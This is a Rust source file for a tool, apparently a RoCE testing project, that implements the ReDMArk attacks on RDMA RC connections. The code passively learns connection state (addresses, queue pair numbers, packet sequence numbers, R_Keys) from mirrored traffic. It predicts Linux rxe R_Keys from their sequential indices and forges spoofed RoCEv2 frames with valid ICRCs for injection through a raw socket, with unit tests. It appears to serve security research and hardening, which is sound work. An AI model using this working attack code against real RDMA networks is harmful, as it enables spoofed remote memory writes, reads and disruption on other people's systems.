//! `uroce attack`: ReDMArk's attacks (USENIX Security '21) on an established RC connection, as
//! an attacker on the segment mounts them. The attacker sees the connection's frames (a
//! mirror port, a hub, a compromised switch) and learns everything it needs from the RoCE
//! frames themselves ([`Learner`]): the two ends' MACs, IPs and UDP source ports, both QPNs,
//! the requester's PSN, the responder's MSN, a VA and R_Key from any RETH. Then it sends
//! frames with good ICRCs from an `AF_PACKET` socket ([`raw`]) and judges the outcome from
//! what it sees next.

pub mod cm_flood;
pub mod raw;

use std::time::{Duration, Instant};
use uroce_wire::{
    EtherType, EthernetAddress, EthernetRepr, ExtHeaders, FrameRepr, IpRepr, Ipv4Repr, Opcode, Operation, Psn, Qpn,
    RethRepr, RoceRepr, Syndrome, Transport, UdpChecksum, UdpRepr, ROCE_V2_PORT,
};

/// One end of the connection as the attacker saw it.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub struct End {
    /// MAC.
    pub mac: EthernetAddress,
    /// IPv4 address.
    pub ip: std::net::Ipv4Addr,
    /// UDP source port of its frames.
    pub sport: u16,
    /// Its QPN (the destination QP of frames to it).
    pub qpn: Option<u32>,
}

/// What the attacker learned about one RC connection (IPv4).
#[derive(Clone, Debug, Default)]
pub struct Learned {
    /// The requester (sends requests).
    pub requester: Option<End>,
    /// The responder (sends ACKs, READ responses).
    pub responder: Option<End>,
    /// The highest request PSN seen.
    pub psn: Option<Psn>,
    /// The last ACK's PSN and MSN.
    pub ack: Option<(Psn, u32)>,
    /// PSNs per message, from two ACKs' PSN and MSN steps (1 until known).
    pub psns_per_message: u32,
    /// The last RETH seen.
    pub reth: Option<RethRepr>,
    /// The last READ request frame, as sent.
    pub read_request: Option<Vec<u8>>,
    /// Requests and responses seen.
    pub requests: u64,
    /// See `requests`.
    pub responses: u64,
    /// Positive ACKs from the responder.
    pub acks: u64,
    /// Payload bytes of READ responses seen.
    pub read_response_bytes: u64,
    /// Bytes the requester's READ requests asked for (their RETHs' DMA lengths).
    pub read_requested_bytes: u64,
    /// The latest 4,096 READ requests by first PSN: (their DMA length, the READ response
    /// payload bytes seen for them since — a response belongs to the request with the
    /// greatest first PSN at or below its own). How often a READ was answered.
    pub reads: std::collections::BTreeMap<u32, (u32, u64)>,
    /// PSNs of the single-packet READ responses seen (the last 4,096): what answers a
    /// one-packet READ an attacker sent.
    pub read_only_responses: Vec<Psn>,
    /// The PSN and kind of the responder's last NAK.
    pub last_nak: Option<(Psn, String)>,
    /// NAKs from the responder, by kind.
    pub naks: std::collections::BTreeMap<String, u64>,
    /// When the last request was seen.
    pub last_request: Option<Instant>,
    /// Every destination QPN and R_Key seen (prediction from observed keys).
    pub qpns: Vec<u32>,
    /// See `qpns`.
    pub rkeys: Vec<u32>,
}

/// Learns a connection from the frames it is shown.
#[derive(Debug, Default)]
pub struct Learner {
    /// What it knows.
    pub l: Learned,
    /// Hashes of the frames the attacker sent: a mirror port shows them again, and they must
    /// not pass for the connection's (a probe's PSN is not the requester's).
    own: std::collections::HashSet<u64>,
}

/// FNV-1a of a frame.
fn frame_hash(f: &[u8]) -> u64 {
    f.iter().fold(0xcbf2_9ce4_8422_2325u64, |h, &b| (h ^ u64::from(b)).wrapping_mul(0x100_0000_01b3))
}

impl Learner {
    /// The attacker sent `frame`: when the segment shows it again, it is not the connection's.
    pub fn sent(&mut self, frame: &[u8]) {
        if self.own.len() >= 1 << 20 {
            self.own.clear();
        }
        self.own.insert(frame_hash(frame));
    }

    /// Account one frame seen on the segment at `now`.
    pub fn see(&mut self, now: Instant, frame: &[u8]) {
        if !self.own.is_empty() && self.own.contains(&frame_hash(frame)) {
            return;
        }
        let Ok(p) = uroce_wire::parse_frame(frame) else { return };
        let (Some(eth), IpRepr::V4(ip)) = (p.eth, p.ip) else { return };
        let bth = p.roce.bth;
        let Some(info) = bth.opcode.info() else { return };
        if info.transport != Transport::Rc {
            return;
        }
        let l = &mut self.l;
        let from = End { mac: eth.src_addr, ip: ip.src_addr, sport: p.udp.src_port, qpn: None };
        if !l.qpns.contains(&bth.dest_qp.value()) {
            l.qpns.push(bth.dest_qp.value());
        }
        if let Some(r) = p.roce.ext.reth {
            if !l.rkeys.contains(&r.rkey) {
                l.rkeys.push(r.rkey);
            }
        }
        if info.is_request() {
            // the first requester seen is the one followed
            let req = l.requester.get_or_insert(from);
            if req.ip != ip.src_addr {
                return;
            }
            req.sport = p.udp.src_port;
            let resp = l.responder.get_or_insert(End { mac: eth.dst_addr, ip: ip.dst_addr, sport: 0, qpn: None });
            resp.qpn = Some(bth.dest_qp.value());
            l.requests += 1;
            l.last_request = Some(now);
            if l.psn.is_none_or(|q| bth.psn.after(q)) {
                l.psn = Some(bth.psn);
            }
            if let Some(r) = p.roce.ext.reth {
                l.reth = Some(r);
            }
            if info.operation == Operation::ReadRequest {
                l.read_request = Some(frame.to_vec());
                let len = p.roce.ext.reth.map_or(0, |r| r.dma_len);
                l.read_requested_bytes += u64::from(len);
                l.reads.entry(bth.psn.value()).or_insert((len, 0));
                if l.reads.len() > 4096 {
                    l.reads.pop_first();
                }
            }
        } else if l.responder.is_some_and(|r| r.ip == ip.src_addr) {
            l.responses += 1;
            if let Some(r) = l.responder.as_mut() {
                r.sport = p.udp.src_port;
                r.mac = eth.src_addr;
            }
            if let Some(q) = l.requester.as_mut() {
                q.qpn = Some(bth.dest_qp.value());
            }
            if info.operation == Operation::ReadResponse {
                l.read_response_bytes += p.roce.payload_len as u64;
                if let Some((_, (_, b))) = l.reads.range_mut(..=bth.psn.value()).next_back() {
                    *b += p.roce.payload_len as u64;
                }
                if bth.opcode == Opcode::RC_RDMA_READ_RESPONSE_ONLY {
                    if l.read_only_responses.len() >= 4096 {
                        l.read_only_responses.drain(..2048);
                    }
                    l.read_only_responses.push(bth.psn);
                }
            }
            if let Some(a) = p.roce.ext.aeth {
                match a.syndrome {
                    Syndrome::Ack(_) => {
                        if let Some((p0, m0)) = l.ack {
                            let (dp, dm) = (bth.psn.diff(p0), a.msn.value().wrapping_sub(m0) & 0xff_ffff);
                            if dp > 0 && dm > 0 && dm < 1 << 16 {
                                l.psns_per_message = (dp as u32 / dm).max(1);
                            }
                        }
                        l.ack = Some((bth.psn, a.msn.value()));
                        l.acks += 1;
                    }
                    Syndrome::Nak(c) => {
                        *l.naks.entry(format!("{c:?}")).or_default() += 1;
                        l.last_nak = Some((bth.psn, format!("{c:?}")));
                    }
                    Syndrome::RnrNak(_) => *l.naks.entry("rnr".into()).or_default() += 1,
                    Syndrome::Reserved(_) => {}
                }
            }
        }
    }

    /// Both ends, both QPNs, a PSN and an ACK known.
    pub fn ready(&self) -> bool {
        let l = &self.l;
        l.requester.is_some_and(|r| r.qpn.is_some())
            && l.responder.is_some_and(|r| r.qpn.is_some() && r.sport != 0)
            && l.psn.is_some()
            && l.ack.is_some()
    }
}

/// What R_Keys seen before say about the next region's: the bits they fix and the bits left to
/// guess. rxe's keys are the region's pool index shifted left by 8 — the pool hands out indices
/// in order (`xa_alloc_cyclic`), so region after region they count up by a constant — and one
/// random byte (`rxe_mr_init`, `rxe_get_next_key`; before Linux 5.x an 8-bit LFSR). Keys drawn
/// from a CSPRNG in all 32 bits (uroce's) fix nothing.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub struct RkeyPrediction {
    /// The predicted bits (those set in `mask`).
    pub base: u32,
    /// Which bits are predicted.
    pub mask: u32,
}

impl RkeyPrediction {
    /// Nothing predicted: all 32 bits to guess.
    pub const NONE: RkeyPrediction = RkeyPrediction { base: 0, mask: 0 };

    /// Bits left to guess: a guess is right with odds 2^-this.
    pub fn unknown_bits(&self) -> u32 {
        (!self.mask).count_ones()
    }

    /// A candidate key: the predicted bits, the rest from `r`.
    pub fn candidate(&self, r: u32) -> u32 {
        (self.base & self.mask) | (r & !self.mask)
    }

    /// Whether `key` agrees with the prediction.
    pub fn admits(&self, key: u32) -> bool {
        key & self.mask == self.base & self.mask
    }
}

/// The next region's key from the keys of regions registered one after another ([`RkeyPrediction`]):
/// when their indices (`key >> 8`) step by one small constant, the next index is the last
/// plus that step and only the low byte is left to guess.
pub fn predict_rkey(seen: &[u32]) -> RkeyPrediction {
    let idx: Vec<i64> = seen.iter().map(|k| i64::from(k >> 8)).collect();
    let steps: Vec<i64> = idx.windows(2).map(|w| w[1] - w[0]).collect();
    match (steps.first(), idx.last()) {
        (Some(&d), Some(&last)) if (1..=16).contains(&d) && steps.iter().all(|&s| s == d) && last + d < 1 << 24 => {
            RkeyPrediction { base: ((last + d) as u32) << 8, mask: !0xff }
        }
        _ => RkeyPrediction::NONE,
    }
}

/// A forged RC frame to `dst` claiming `src`'s IP, with the source MAC and UDP port `claim`.
pub fn forge(
    (src_mac, sport): (EthernetAddress, u16),
    src: &End,
    dst: &End,
    opcode: Opcode,
    psn: Psn,
    ext: ExtHeaders,
    payload: &[u8],
) -> Vec<u8> {
    let bth = uroce_wire::BthRepr {
        opcode,
        solicited: false,
        mig_req: false,
        pad_count: uroce_wire::packet::pad_for(payload.len()),
        pkey: 0xffff,
        fecn: false,
        becn: false,
        dest_qp: Qpn::new(dst.qpn.unwrap_or(0)),
        ack_req: true,
        psn,
    };
    emit_v4((src_mac, dst.mac), (src.ip, dst.ip), sport, bth, ext, payload)
}

/// An IPv4 RoCEv2 frame with these addresses, UDP source port, BTH, extension headers and
/// payload, lengths and ICRC made good; empty when the parts do not agree.
pub(crate) fn emit_v4(
    (src_mac, dst_mac): (EthernetAddress, EthernetAddress),
    (src_ip, dst_ip): (std::net::Ipv4Addr, std::net::Ipv4Addr),
    sport: u16,
    bth: uroce_wire::BthRepr,
    ext: ExtHeaders,
    payload: &[u8],
) -> Vec<u8> {
    let r = FrameRepr {
        eth: EthernetRepr { src_addr: src_mac, dst_addr: dst_mac, vlan: None, ethertype: EtherType::IPV4 },
        ip: IpRepr::V4(Ipv4Repr {
            src_addr: src_ip,
            dst_addr: dst_ip,
            dscp: 0,
            ecn: uroce_wire::Ecn::NotEct,
            ident: 0,
            dont_frag: true,
            ttl: 64,
            protocol: 17,
            payload_len: 0,
        }),
        udp: UdpRepr { src_port: sport, dst_port: ROCE_V2_PORT },
        roce: RoceRepr { bth, ext, payload_len: payload.len() },
    };
    let mut b = vec![0u8; r.buffer_len()];
    if r.emit(&mut b, UdpChecksum::Zero, |p| p.copy_from_slice(payload)).is_err() {
        b.clear();
    }
    b
}

/// How a forged frame claims its source.
#[derive(Clone, Copy, Debug, PartialEq, Eq, clap::ValueEnum)]
#[value(rename_all = "kebab-case")]
pub enum Spoof {
    /// The peer's IP from the attacker's own MAC (rxe checks only addresses).
    OwnMac,
    /// The peer's IP and MAC from another UDP source port.
    OtherPort,
    /// The peer's IP, MAC and UDP source port: all a receiver can check.
    Full,
}

/// Waits (polling `sock`) until `learner` is ready or `timeout` passes.
pub fn learn(sock: &raw::RawSocket, learner: &mut Learner, timeout: Duration) -> std::io::Result<bool> {
    let deadline = Instant::now() + timeout;
    let mut buf = vec![0u8; 65536];
    while Instant::now() < deadline {
        if let Some(n) = sock.recv(&mut buf, Duration::from_millis(10))? {
            learner.see(Instant::now(), &buf[..n]);
            if learner.ready() {
                return Ok(true);
            }
        }
    }
    Ok(false)
}

/// Keeps watching for `d`.
pub fn watch(sock: &raw::RawSocket, learner: &mut Learner, d: Duration) -> std::io::Result<()> {
    let deadline = Instant::now() + d;
    let mut buf = vec![0u8; 65536];
    while Instant::now() < deadline {
        if let Some(n) =
            sock.recv(&mut buf, deadline.saturating_duration_since(Instant::now()).min(Duration::from_millis(10)))?
        {
            learner.see(Instant::now(), &buf[..n]);
        }
    }
    Ok(())
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_forged_write_parses_back_with_a_good_icrc() {
        let a = End {
            mac: EthernetAddress([2, 0, 0, 0, 0, 1]),
            ip: "10.0.0.1".parse().unwrap(),
            sport: 0xc001,
            qpn: Some(5),
        };
        let b = End {
            mac: EthernetAddress([2, 0, 0, 0, 0, 2]),
            ip: "10.0.0.2".parse().unwrap(),
            sport: 0xc002,
            qpn: Some(9),
        };
        let ext = ExtHeaders { reth: Some(RethRepr { va: 0x1000, rkey: 0x77, dma_len: 8 }), ..ExtHeaders::default() };
        let f = forge((a.mac, a.sport), &a, &b, Opcode::RC_RDMA_WRITE_ONLY, Psn::new(42), ext, &[1; 8]);
        let p = uroce_wire::parse_frame_verified(&f).expect("valid");
        assert_eq!(p.roce.bth.dest_qp.value(), 9);
        assert_eq!(p.roce.bth.psn.value(), 42);
        assert_eq!(p.udp.src_port, 0xc001);
        // and the learner takes the request's side from it
        let mut l = Learner::default();
        l.see(Instant::now(), &f);
        assert_eq!(l.l.requester.unwrap().ip, a.ip);
        assert_eq!(l.l.responder.unwrap().qpn, Some(9));
        assert_eq!(l.l.reth.unwrap().rkey, 0x77);
        assert!(!l.ready(), "no ACK seen yet");
        // the attacker's own frames, shown again by the mirror port, teach it nothing
        let mut l = Learner::default();
        l.sent(&f);
        l.see(Instant::now(), &f);
        assert!(l.l.requester.is_none() && l.l.psn.is_none() && l.l.requests == 0);
    }

    #[test]
    fn rxe_like_keys_leave_one_byte_to_guess_and_random_keys_all_32_bits() {
        // rxe: index 0x15, 0x16, 0x17 with a random low byte each
        let p = predict_rkey(&[0x15a3, 0x1607, 0x17fe]);
        assert_eq!(p, RkeyPrediction { base: 0x1800, mask: 0xffff_ff00 });
        assert_eq!(p.unknown_bits(), 8);
        assert!(p.admits(0x18c4) && !p.admits(0x19c4));
        assert_eq!(p.candidate(0xdead_be42), 0x1842);
        // a step of two (another region registered between connections)
        assert_eq!(predict_rkey(&[0x1100, 0x13ff]).base, 0x1500);
        // one key, no step; uneven steps; random 32-bit keys: nothing fixed
        for seen in [&[0x15a3][..], &[0x1500, 0x1600, 0x1900], &[0x8f3a_11c2, 0x1b07_9e44, 0xc2d1_0a9b], &[]] {
            assert_eq!(predict_rkey(seen), RkeyPrediction::NONE, "{seen:x?}");
            assert_eq!(RkeyPrediction::NONE.unknown_bits(), 32);
        }
    }
}
